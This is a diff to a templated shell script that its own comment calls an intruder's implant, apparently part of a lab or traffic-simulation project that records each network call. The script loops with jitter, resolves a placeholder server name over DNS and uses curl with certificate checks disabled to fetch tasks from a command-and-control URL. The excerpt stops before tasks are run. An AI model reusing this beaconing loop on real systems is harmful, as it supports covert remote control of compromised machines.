@@ -2,14 +2,13 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
 #
 # The intruder's implant: asks its server for work at a jittered interval. The
-# capitals in @ are filled in when the server hands it out. Its own name look-ups
-# leave from one fixed port, so that they can be told from the machine's others.
+# capitals in @ are filled in when the server hands it out, without these comments.
 id=$1
 ask() {
 	rec "@WHAT@" tcp - "@ADDRESS@:@PORT@" curl -sk -m 8 --resolve "@NAME@:@PORT@:$ip" -A '@AGENT@' "$@"
 }
 while :; do
-	ip=$(rec "look-up of @NAME@" udp 61053 10.50.0.53:53 dig +short +tries=1 +time=2 -b '0.0.0.0#61053' @NAME@ | tail -n 1)
+	ip=$(rec "look-up of @NAME@" udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' @NAME@ | tail -n 1)
 	if [ -n "$ip" ]; then
 		task=$(ask "@SCHEME@://@NAME@:@PORT@/@PATH@?id=$id")
 		if [ -n "$task" ]; then
